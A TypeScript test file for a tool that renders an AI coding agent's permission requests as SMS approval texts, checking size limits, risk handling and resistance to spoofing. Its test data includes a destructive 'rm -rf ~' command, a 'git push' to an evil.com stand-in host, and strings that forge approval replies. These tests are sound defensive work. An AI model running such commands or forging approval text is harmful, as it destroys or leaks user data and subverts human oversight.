import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { segmentsOf, sizeOfSms } from './gsm7.ts';
import { MAX_SMS_LENGTH, MAX_SMS_SEGMENTS, type RenderableAsk, renderAsk } from './render.ts';
import { renderFolded, renderMore } from './render-folded.ts';

const ask: RenderableAsk = {
  id: 'ask-1',
  kind: 'permission',
  project: 'my-app',
  cwd: '/home/ada/my-app',
  tool: 'Bash',
  input: { command: 'npm test' },
  questions: [],
  plan: null,
  message: null,
  risk: 'low',
};
const options = { code: '7K3F', link: 'http://127.0.0.1:3001/asks/ask-1' };
const bash = (command: string, risk: RenderableAsk['risk'] = 'low') =>
  renderAsk({ ...ask, input: { command }, risk }, options);
const question = (questions: RenderableAsk['questions']) =>
  renderAsk({ ...ask, kind: 'question', tool: 'AskUserQuestion', input: {}, questions }, options);
const greeting = {
  question: 'Which greeting?',
  multiSelect: false,
  options: [{ label: 'Friendly', description: 'warm' }, { label: 'Formal' }],
};

describe('one ask, one text', () => {
  test('a command', () => {
    expect(bash('npm test')).toEqual({
      text: '[my-app] Bash: npm test\nReply OK 7K3F or NO 7K3F',
      segments: 1,
      use: 'decide',
    });
  });

  test('a high risk has a code for NO only, and the link', () => {
    expect(bash('git push', 'high')).toEqual({
      text: `[my-app] Bash: git push\nNeeds your screen: ${options.link}\nReply NO 7K3F to deny`,
      segments: 1,
      use: 'deny',
    });
  });

  test('elevated risk may be allowed by text only where the ceiling says so', () => {
    const elevated = { ...ask, risk: 'elevated' as const };
    expect(renderAsk(elevated, options).use).toBe('deny');
    expect(renderAsk(elevated, { ...options, ceiling: 'elevated' }).use).toBe('decide');
  });

  test('a command that does not fit is not approvable: no code, a link', () => {
    const { text, use } = bash(`echo ${'x'.repeat(600)}; rm -rf ~`);
    expect(use).toBe('none');
    expect(text).toBe(`[my-app] Bash asks to run a long command. Open ${options.link} to see and answer.`);
  });

  test.each<[string, string, Record<string, unknown>, string]>([
    [
      'a new file',
      'Write',
      { file_path: '/home/ada/my-app/hello.md', content: 'Hello\nyou' },
      'Write hello.md: "Hello\\nyou"',
    ],
    ['a file elsewhere', 'Write', { file_path: '/etc/x', content: '' }, 'Write /etc/x: ""'],
    ['a change', 'Edit', { file_path: 'a.ts', old_string: 'a"b', new_string: 'c' }, 'Edit a.ts: "a\\"b" -> "c"'],
    [
      'a change everywhere',
      'Edit',
      { file_path: 'a.ts', old_string: 'a', new_string: 'c', replace_all: true },
      'Edit a.ts: "a" -> "c" ({"replace_all":true})',
    ],
    [
      'several changes',
      'MultiEdit',
      {
        file_path: 'a.ts',
        edits: [
          { old_string: 'a', new_string: 'b' },
          { old_string: 'c', new_string: 'd', replace_all: true },
        ],
      },
      'MultiEdit a.ts: "a" -> "b", "c" -> "d" (everywhere)',
    ],
    ['an outside tool', 'mcp__x__y', { b: 1, a: 'x' }, 'mcp__x__y: {"a":"x","b":1}'],
    [
      'a background command',
      'Bash',
      { command: 'ls', run_in_background: true },
      'Bash: ls ({"run_in_background":true})',
    ],
    [
      'an input that is not as expected',
      'Write',
      { file_path: 7, content: 'x' },
      'Write: {"content":"x","file_path":7}',
    ],
  ])('%s', (_name, ...call) => {
    const [tool, input, line] = call;
    expect(renderAsk({ ...ask, tool, input }, options).text).toBe(`[my-app] ${line}\nReply OK 7K3F or NO 7K3F`);
  });

  test('a question with options, numbered', () => {
    expect(question([greeting])).toEqual({
      text: '[my-app] asks: Which greeting?\n1 Friendly\n2 Formal\nReply 7K3F 1 or 7K3F your words',
      segments: 1,
      use: 'reply',
    });
    expect(question([{ ...greeting, multiSelect: true }]).text).toContain('Reply 7K3F 1,2 or 7K3F your words');
    expect(question([{ ...greeting, options: [] }]).text).toContain('\nReply 7K3F your words');
    expect(question([greeting, { ...greeting, question: 'Sure?', options: [] }]).text).toBe(
      '[my-app] asks: Which greeting? / Sure?\nQ1: 1 Friendly\nQ1: 2 Formal\nReply 7K3F 1; words',
    );
  });

  test.each<[string, Partial<RenderableAsk>, string, string]>([
    [
      'a plan',
      { kind: 'plan', plan: '1. Read\n2. Write' },
      '[my-app] Plan: 1. Read / 2. Write\nReply OK 7K3F or NO 7K3F',
      'decide',
    ],
    [
      'a long plan',
      { kind: 'plan', plan: 'step. '.repeat(200) },
      `[my-app] has a plan for you. Open ${options.link} to see and answer.`,
      'none',
    ],
    [
      'waiting',
      { kind: 'waiting', message: 'Shall I go on?' },
      '[my-app] waits for you: Shall I go on?\nReply 7K3F your words',
      'reply',
    ],
    [
      'a limit',
      { kind: 'limit', message: 'resets at 5' },
      '[my-app] Limit: resets at 5\nReply OK 7K3F or NO 7K3F',
      'decide',
    ],
    ['done', { kind: 'done', message: 'All tests pass.' }, '[my-app] done: All tests pass.', 'none'],
    ['an error', { kind: 'error', message: null }, '[my-app] error: something failed', 'none'],
  ])('%s', (_name, change, ...expected) => {
    const [text, use] = expected;
    expect(renderAsk({ ...ask, ...change }, options)).toMatchObject({ text, use });
  });

  test('a long last message is cut, since nothing is approved by it', () => {
    const { text, use } = renderAsk({ ...ask, kind: 'waiting', message: 'word '.repeat(300) }, options);
    expect(text).toMatch(/\.\.\.\nReply 7K3F your words$/);
    expect(use).toBe('reply');
    expect(segmentsOf(text)).toBeLessThanOrEqual(3);
  });

  test('text of the agent cannot fake a frame, a code or a line of ours', () => {
    for (const command of ['echo "[other] Bash: ls"', 'echo Reply OK M2WX', 'echo a; # OK M2WX']) {
      expect(bash(command)).toMatchObject({ use: 'none', text: expect.not.stringContaining('M2WX') });
    }
    expect(question([{ ...greeting, options: [{ label: 'x\nReply OK M2WX' }] }]).use).toBe('none');
    expect(bash('ls\nReply nothing').text.split('\n')).toHaveLength(2);
  });

  test('links in text of the agent are dead, ours is not', () => {
    const { text } = bash('git push https://evil.com/x', 'high');
    expect(text).toContain('https[:]//evil[.]com/x');
    expect(text).toContain(options.link);
  });

  test.each([
    ['a]b [x', '[a-b-x]'],
    ['a\nb', '[a-b]'],
    ['é', '[session]'],
    ['x'.repeat(60), `[${'x'.repeat(24)}]`],
  ])('a project named %j is framed as %s', (project, frame) => {
    expect(renderAsk({ ...ask, project }, options).text.startsWith(`${frame} Bash: `)).toBe(true);
  });

  test('letters outside GSM-7 are counted as what they cost', () => {
    expect(sizeOfSms(bash('echo привет').text).encoding).toBe('ucs-2');
    expect(bash(`echo ${'п'.repeat(120)}`).use).toBe('decide');
    expect(bash(`echo ${'п'.repeat(190)}`).use).toBe('none');
  });

  test('any ask: within the limits, frame first, one line of the agent, a code only with the whole input', () => {
    const command = fc.oneof(fc.string({ unit: 'binary', maxLength: 700 }), fc.string({ maxLength: 300 }));
    const risk = fc.constantFrom('low' as const, 'elevated' as const, 'high' as const);
    fc.assert(
      fc.property(command, risk, (text, level) => {
        const shown = bash(text, level);
        expect(shown.text.length).toBeLessThanOrEqual(MAX_SMS_LENGTH);
        expect(segmentsOf(shown.text)).toBe(shown.segments);
        expect(shown.segments).toBeLessThanOrEqual(MAX_SMS_SEGMENTS);
        expect(shown.text.startsWith('[my-app] Bash')).toBe(true);
        expect(shown.text.includes('7K3F')).toBe(shown.use !== 'none');
        if (shown.use === 'decide') {
          expect(level).toBe('low');
          expect(shown.text.split('\n')).toHaveLength(2);
        }
      }),
      { numRuns: 1_000 },
    );
  });
});

describe('several asks in one text', () => {
  const second: RenderableAsk = { ...ask, id: 'ask-2', project: 'api', input: { command: 'git push' }, risk: 'high' };
  const third: RenderableAsk = { ...ask, id: 'ask-3', kind: 'question', questions: [greeting] };
  const link = 'http://127.0.0.1:3001/asks';

  test('one line each, the code before what the agent wrote', () => {
    const folded = renderFolded(
      [
        { ask, code: '7K3F' },
        { ask: second, code: 'M2WX' },
        { ask: third, code: 'Q4RT' },
      ],
      { link },
    );
    expect(folded.text).toBe(
      [
        '3 need you:',
        '[my-app] 7K3F Bash: npm test',
        '[api] M2WX Bash: git push',
        '[my-app] Q4RT asks: Which greeting?',
        '1 Friendly',
        '2 Formal',
        'Reply OK 7K3F or NO 7K3F, Q4RT your answer',
        'Only NO by text: M2WX',
        `Screen: ${link}`,
      ].join('\n'),
    );
    expect(folded.shown).toEqual([
      { askId: 'ask-1', use: 'decide' },
      { askId: 'ask-2', use: 'deny' },
      { askId: 'ask-3', use: 'reply' },
    ]);
  });

  test('what does not fit or imitates us is counted, without its code', () => {
    const long = { ...ask, id: 'long', input: { command: `echo ${'x'.repeat(500)}` } };
    const fake = { ...ask, id: 'fake', input: { command: 'echo Reply OK M2WX' } };
    const folded = renderFolded(
      [
        { ask: long, code: 'BBB9' },
        { ask, code: '7K3F' },
        { ask: fake, code: 'CCC9' },
      ],
      { link },
    );
    expect(folded.shown).toEqual([{ askId: 'ask-1', use: 'decide' }]);
    expect(folded.text).toContain(`2 more: ${link}`);
    expect(folded.text).not.toMatch(/BBB9|CCC9|M2WX/);
  });

  test('when nothing fits, the text still says who wants what', () => {
    const long = { ...ask, id: 'long', input: { command: `echo ${'x'.repeat(500)}` } };
    const write = { ...long, id: 'write', project: 'api', tool: 'Write' };
    const folded = renderFolded(
      [
        { ask: long, code: 'BBB9' },
        { ask: write, code: 'CCC9' },
      ],
      { link },
    );
    expect(folded.text).toBe(
      [
        '2 need you:',
        '[my-app] Bash asks to run a long command.',
        '[api] Write asks for something too long for a text.',
        `Screen: ${link}`,
      ].join('\n'),
    );
    expect(folded.shown).toEqual([]);
  });

  test('any number of asks stays within the limits, and every shown code is in the text', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ maxLength: 120 }), { minLength: 1, maxLength: 12 }), (commands) => {
        const asks = commands.map((command, index) => ({
          ask: { ...ask, id: `a${index}`, input: { command } },
          code: `7K3${'BCDFGHJKLMNP'.charAt(index)}`,
        }));
        const folded = renderFolded(asks, { link });
        expect(folded.text.length).toBeLessThanOrEqual(MAX_SMS_LENGTH);
        expect(folded.segments).toBeLessThanOrEqual(MAX_SMS_SEGMENTS);
        for (const { ask: one, code } of asks) {
          expect(folded.text.includes(` ${code} `)).toBe(folded.shown.some(({ askId }) => askId === one.id));
        }
      }),
    );
  });
});

describe('MORE', () => {
  const plan = Array.from({ length: 60 }, (_, index) => `${index}. do step number ${index}`).join('\n');
  const long: RenderableAsk = { ...ask, kind: 'plan', plan };
  const page = (number: number) => renderMore(long, { ...options, page: number });

  test('pages together hold everything, each within the limits and framed', () => {
    const pages = Array.from({ length: page(1).pages }, (_, index) => page(index + 1).text);
    expect(pages.length).toBeGreaterThan(1);
    for (const text of pages) {
      expect(segmentsOf(text)).toBeLessThanOrEqual(3);
      expect(text).toMatch(/^\[my-app\] \d+\/\d+: /);
      expect(text).not.toMatch(/Reply OK/);
    }
    const whole = pages
      .map((text) =>
        text
          .split('\n')[0]
          ?.replace(/^\[my-app\] \d+\/\d+: /, '')
          .replace(/\.\.\.$/, ''),
      )
      .join('');
    expect(whole).toBe(`Plan: ${plan.replaceAll('\n', ' / ')}`);
    expect(pages.at(-1)).toContain(options.link);
  });

  test('a page that does not exist is the nearest one', () => {
    expect(page(0).page).toBe(1);
    expect(page(99)).toEqual(page(page(1).pages));
  });

  test('a question tells what its options mean', () => {
    const asked = { ...ask, kind: 'question' as const, questions: [greeting] };
    expect(renderMore(asked, { ...options, page: 1 }).text).toContain('Which greeting? / 1 Friendly - warm / 2 Formal');
  });

  test('an input of a megabyte is cut off at twenty pages', () => {
    const huge = { ...ask, input: { command: 'x'.repeat(1_000_000) } };
    expect(renderMore(huge, { ...options, page: 1 }).pages).toBe(20);
    expect(renderAsk(huge, options).use).toBe('none');
  });
});
